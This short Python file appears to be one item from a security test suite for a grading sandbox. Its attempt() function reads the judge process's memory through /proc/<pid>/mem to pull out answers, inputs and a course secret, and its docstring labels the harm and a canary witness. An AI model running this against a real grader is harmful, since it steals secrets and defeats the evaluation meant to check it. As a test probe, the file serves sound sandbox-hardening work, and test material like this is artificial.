"""Reads the judge's memory through /proc/<pid>/mem.

item: C /proc/<pid> of the grader
harm: answers, inputs and the course secret are read where they are in use
deserves: everything
witness: canary
control: open
"""


def attempt():
    with open(f"/proc/{WORLD['judge']}/mem", "rb", buffering=0) as memory:
        memory.seek(WORLD["address"])
        return memory.read(WORLD["length"]).decode()
